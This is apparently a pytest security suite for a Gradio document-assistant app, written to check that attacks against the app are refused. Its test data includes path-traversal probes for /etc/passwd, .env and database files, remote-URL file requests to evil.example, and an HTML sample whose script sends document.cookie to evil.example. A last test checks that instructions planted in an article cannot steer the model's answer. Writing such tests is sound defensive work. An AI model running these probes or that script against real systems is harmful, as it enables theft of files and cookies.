"""Security: login, file routes, uploads, oversize input and overload, against a running app."""

from __future__ import annotations

import http.client
import json
import threading
import time
import uuid
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest

from assistant.config import SettingsError, load_settings
from assistant.web.security import (
    _is_remote_file_request,
    deployment_warnings,
    make_auth,
    parse_users,
)
from tests.app_server import copy_index, running_app
from tests.conftest import ROOT

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 256
SMALL_CAP = 200_000


# --- pure parts ---------------------------------------------------------------------------
def test_users_inline_and_from_a_file(tmp_path):
    assert parse_users("ann:pw1, bob:p:w:2") == {"ann": "pw1", "bob": "p:w:2"}
    users = tmp_path / "users"
    users.write_text("# readers\nann:first\n\ncarl:second\n")
    assert parse_users(str(users)) == {"ann": "first", "carl": "second"}
    for bad in ("no-colon-and-no-file", "ann:", ":pw", ","):
        with pytest.raises(SettingsError):
            parse_users(bad)


def test_auth_callback_and_secret_setting(monkeypatch):
    check = make_auth({"ann": "right"})
    assert check("ann", "right")
    assert not check("ann", "wrong") and not check("bob", "right") and not check("", "")
    monkeypatch.setenv("ASSISTANT_AUTH", "ann:right")
    settings = load_settings()
    assert "right" not in repr(settings) and "right" not in str(settings.model_dump())
    assert settings.auth.get_secret_value() == "ann:right"


def test_safe_defaults_and_deployment_warnings():
    s = load_settings()
    assert (s.host, s.read_only, s.auth) == ("127.0.0.1", False, None)
    assert s.max_upload_bytes == 20 * 1024 * 1024 and s.max_question_chars == 2000
    assert s.queue_max_size >= 1 and s.concurrency_limit >= 1
    assert deployment_warnings("127.0.0.1", False, False) == []
    assert deployment_warnings("0.0.0.0", True, False) == []
    assert "ASSISTANT_AUTH" in deployment_warnings("0.0.0.0", False, False)[0]
    assert "read-only" in deployment_warnings("0.0.0.0", False, False)[0]


@pytest.mark.parametrize(
    "path",
    [
        "/gradio_api/file=http://evil.example/x.png",
        "/gradio_api/file=HTTPS://evil.example/x",
        "/gradio_api/file=%68ttp%3A%2F%2Fevil.example",
        "/gradio_api/file=//evil.example/x",
        "/file=http://evil.example/x",
    ],
)
def test_remote_file_requests_are_recognised(path):
    assert _is_remote_file_request(path)


def test_local_file_requests_are_not_remote():
    assert not _is_remote_file_request("/gradio_api/file=/tmp/gradio/abc/a.txt")


# --- a running app -------------------------------------------------------------------------
def request(app, method: str, path: str, body: bytes | None = None, headers=None):
    """A raw HTTP request: the path is sent exactly as given (no normalisation)."""
    conn = http.client.HTTPConnection("127.0.0.1", urlsplit(app.url).port, timeout=30)
    conn.request(method, path, body=body, headers=headers or {})
    response = conn.getresponse()
    data = response.read()
    conn.close()
    return response.status, data, {k.lower(): v for k, v in response.getheaders()}


def multipart(name: str, data: bytes) -> tuple[bytes, dict]:
    boundary = uuid.uuid4().hex
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n'
            "Content-Type: text/plain\r\n\r\n"
        ).encode()
        + data
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return body, {"Content-Type": f"multipart/form-data; boundary={boundary}"}


@pytest.fixture(scope="module")
def guarded_app(seed_index_dir, embedder, tmp_path_factory):
    index = copy_index(seed_index_dir, tmp_path_factory.mktemp("sec") / "index")
    with running_app(index, embedder, max_upload_bytes=SMALL_CAP) as app:
        yield app


def traversal_probes(app) -> list[str]:
    index = Path(app.settings.index_dir).resolve()
    sqlite = index / "chroma.sqlite3"
    rel_sqlite = "../" * 12 + str(sqlite).lstrip("/")
    targets = [str(sqlite), "/etc/passwd", str(ROOT / "assistant" / "config.py")]
    targets += [str(ROOT / "pyproject.toml"), str(ROOT / ".env"), str(ROOT / "README.md")]
    probes = []
    for target in targets:
        probes += [
            f"/gradio_api/file={target}",
            f"/gradio_api/file={quote(target, safe='')}",
            f"/GRADIO_API/FILE={target}",
            f"/gradio_api/File={target}",
            f"/gradio_api/file/{target}",
            f"/file={target}",
        ]
    probes += [
        f"/gradio_api/file={rel_sqlite}",
        "/gradio_api/file=" + quote(rel_sqlite, safe=""),
        "/gradio_api/file=" + rel_sqlite.replace("../", "..%2f"),
        "/gradio_api/file=" + rel_sqlite.replace("../", "%2e%2e/"),
        "/gradio_api/file=" + rel_sqlite.replace("/", "\\"),
        "/gradio_api/file=../../../../../../../../etc/passwd",
        "/gradio_api/file=..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/static/../../../../../../etc/passwd",
        "/static/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/assets/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/gradio_api/file=http://127.0.0.1:1/",
    ]
    return probes


SECRETS = (b"SQLite format 3", b"root:x:0:0", b"class Settings", b"[build-system]", b"# News")


@pytest.mark.slow
def test_path_traversal_probes_are_refused(guarded_app):
    leaks = []
    for path in traversal_probes(guarded_app):
        status, body, _ = request(guarded_app, "GET", path)
        if status == 200 or any(secret in body for secret in SECRETS):
            leaks.append((path, status, body[:80]))
    assert leaks == []


@pytest.mark.slow
def test_responses_carry_security_headers(guarded_app):
    status, _, headers = request(guarded_app, "GET", "/")
    assert status == 200
    assert "img-src 'self' data: blob:" in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff"


@pytest.mark.slow
def test_direct_upload_post_oversize_is_refused(guarded_app):
    body, headers = multipart("big.txt", b"a" * (SMALL_CAP + 10_000))
    status, _, _ = request(guarded_app, "POST", "/gradio_api/upload", body, headers)
    assert status == 413


@pytest.mark.slow
def test_uploaded_executable_is_refused_and_index_unchanged(guarded_app):
    from gradio_client import Client

    app = guarded_app
    body, headers = multipart("evil.txt", ELF)
    status, data, _ = request(app, "POST", "/gradio_api/upload", body, headers)
    assert status == 200  # Gradio parks the bytes in its temp cache; nothing is indexed yet
    cached = json.loads(data)[0]
    before = (app.assistant.store.revision(), len(app.assistant.sources()))
    client = Client(app.url, verbose=False)
    report, _ = client.predict(
        [{"path": cached, "meta": {"_type": "gradio.FileData"}}], api_name="/add_files"
    )
    assert "the content is a Linux executable" in report
    assert (app.assistant.store.revision(), len(app.assistant.sources())) == before
    assert not list(app.assistant.upload_folder.glob("evil*"))


@pytest.mark.slow
def test_event_payloads_cannot_name_server_files(guarded_app):
    """A file payload must point into Gradio's upload folder; server paths and URLs are
    refused before Gradio would copy (or fetch) them."""
    app = guarded_app
    sqlite = str(Path(app.settings.index_dir).resolve() / "chroma.sqlite3")
    before = app.assistant.store.revision()
    targets = [sqlite, "/etc/passwd", str(ROOT / "README.md"), "http://127.0.0.1:1/x.txt"]
    for target in targets:
        for route in ("/gradio_api/queue/join", "/gradio_api/call/add_files"):
            file = {"path": target, "meta": {"_type": "gradio.FileData"}}
            payload = {"data": [[file]], "fn_index": 0, "session_hash": "probe"}
            status, body, _ = request(
                app,
                "POST",
                route,
                json.dumps(payload).encode(),
                {"Content-Type": "application/json"},
            )
            assert status == 403 and b"upload route" in body, (route, target, status)
    assert app.assistant.store.revision() == before
    assert not app.assistant.upload_folder.exists() or not any(
        p.name in {"chroma.sqlite3", "passwd", "README.md"}
        for p in app.assistant.upload_folder.iterdir()
    )


@pytest.mark.slow
def test_html_with_scripts_is_stored_inert(guarded_app, tmp_path):
    from gradio_client import Client, handle_file

    page = tmp_path / "council.html"
    page.write_text(
        "<html><head><title>Council approves park budget</title>"
        "<script>fetch('http://evil.example/?c='+document.cookie)</script></head><body>"
        "<article><p>The Brookfield city council approved a budget of four million dollars "
        "for the new riverside park on Tuesday evening.</p>"
        "<p onclick=\"alert('x')\">Mayor Lena Ortiz said construction starts in April."
        '<img src="http://evil.example/pixel.png"></p></article></body></html>'
    )
    client = Client(guarded_app.url, verbose=False)
    report, _ = client.predict([handle_file(str(page))], api_name="/add_files")
    assert "1 added" in report
    doc = next(s for s in guarded_app.assistant.sources() if "park budget" in s.title)
    text = guarded_app.assistant.store.get_document(doc.doc_id).text
    assert "four million dollars" in text
    for markup in ("<script", "fetch(", "onclick", "<img", "evil.example"):
        assert markup not in text
    stored = guarded_app.assistant.upload_folder / "council.html"
    status, _, _ = request(guarded_app, "GET", f"/gradio_api/file={stored}")
    assert status in {403, 404}


@pytest.mark.slow
def test_long_question_is_refused_before_any_model_call(guarded_app, monkeypatch):
    from gradio_client import Client

    def must_not_run(*args, **kwargs):
        raise AssertionError("retrieval or a model ran for a refused question")

    class NoRetriever:
        search = staticmethod(must_not_run)

    monkeypatch.setattr(guarded_app.assistant, "retriever", NoRetriever())
    monkeypatch.setattr(guarded_app.assistant, "answerer_for", must_not_run)
    client = Client(guarded_app.url, verbose=False)
    _, chat = client.predict("Why " * 600, [], 5, "extractive", True, api_name="/ask")
    reply = chat[-1]["content"][0]["text"]
    assert "That question can&#39;t be asked" in reply and "the limit is 2000" in reply
    with pytest.raises(Exception, match="limit"):
        client.predict("Why " * 600, 0, "", api_name="/answer")


@pytest.mark.slow
def test_login_required_and_read_only(seed_index_dir, embedder, tmp_path):
    from gradio_client import Client

    index = copy_index(seed_index_dir, tmp_path / "index")
    with running_app(index, embedder, auth="reader:s3cret-Pass", read_only=True) as app:
        status, body, _ = request(app, "GET", "/")
        assert b"Western Weapons" not in body and b"indexed article" not in body
        for method, path in [
            ("GET", "/config"),
            ("GET", "/gradio_api/info"),
            ("POST", "/gradio_api/queue/join"),
            ("POST", "/gradio_api/upload"),
            ("GET", f"/gradio_api/file={index}/chroma.sqlite3"),
        ]:
            status, _, _ = request(app, method, path, b"{}" if method == "POST" else None)
            assert status in {401, 403}, (method, path, status)
        with pytest.raises(Exception):  # noqa: B017 - gradio_client cannot even connect
            Client(app.url, verbose=False)
        with pytest.raises(Exception):  # noqa: B017
            Client(app.url, auth=("reader", "wrong"), verbose=False)

        client = Client(app.url, auth=("reader", "s3cret-Pass"), verbose=False)
        answer = client.predict("What did Putin say about NATO?", 0, "", api_name="/answer")
        assert answer["citations"]
        endpoints = set(client.view_api(print_info=False, return_format="dict")["named_endpoints"])
        assert {"/ask", "/answer", "/refresh"} <= endpoints
        assert not endpoints & {"/add_files", "/add_text", "/remove", "/reindex_folder"}
        cookies = client.cookies
        body, headers = multipart("a.txt", b"Title\n\nSome text here.")
        cookie = "; ".join(f"{k}={v}" for k, v in cookies.items())
        status, _, _ = request(
            app, "POST", "/gradio_api/upload", body, {**headers, "Cookie": cookie}
        )
        assert status == 403  # read-only: the upload route itself is closed
        assert "read-only" in client.predict("", api_name="/refresh")[0]


@pytest.mark.slow
def test_overload_says_busy_and_the_server_stays_up(seed_index_dir, embedder, tmp_path):
    from gradio_client import Client

    index = copy_index(seed_index_dir, tmp_path / "index")
    with running_app(index, embedder, queue_max_size=1, concurrency_limit=1) as app:
        slow = app.assistant.condense

        def slow_condense(question, history):
            time.sleep(0.6)  # stands in for a slow model so the queue fills up
            return slow(question, history)

        app.assistant.condense = slow_condense
        outcomes: list[str] = []

        def one() -> None:
            try:
                Client(app.url, verbose=False).predict(
                    "What did Putin say about NATO?", [], 3, "extractive", True, api_name="/ask"
                )
                outcomes.append("ok")
            except Exception as exc:  # the client reports the queue-full refusal as an error
                outcomes.append(f"refused: {exc}")

        threads = [threading.Thread(target=one) for _ in range(8)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(timeout=120)
        refused = [o for o in outcomes if o != "ok"]
        assert outcomes.count("ok") >= 1 and refused, outcomes
        assert all("queue" in o.lower() or "full" in o.lower() for o in refused), refused
        app.assistant.condense = slow
        answer = Client(app.url, verbose=False).predict(
            "Who is Matthew Miller?", 0, "", api_name="/answer"
        )
        assert "Matthew Miller" in answer["answer"]


def _answerers():
    from assistant.answer.backends import LLM_BACKENDS

    return ["extractive"] + [pytest.param(b, marks=pytest.mark.llm) for b in LLM_BACKENDS]


@pytest.mark.slow
@pytest.mark.parametrize("backend", _answerers())
def test_instructions_inside_an_article_do_not_steer_the_answer(make_assistant, backend):
    from tests.web.test_browser import INJECTED

    assistant = make_assistant()
    title, body = INJECTED.split("\n", 1)
    assistant.add_text(body, title)
    try:
        assistant.answerer_for(backend)
    except Exception as exc:  # a backend whose model or package is not installed here
        pytest.skip(f"{backend} answerer unavailable: {exc}")
    final = list(
        assistant.ask_stream(
            "What budget did the Brookfield city council approve?", answerer=backend
        )
    )[-1]
    assert not final.abstained and final.citations
    assert "HACKED" not in final.answer
    assert any("four million dollars" in c.quote for c in final.citations)
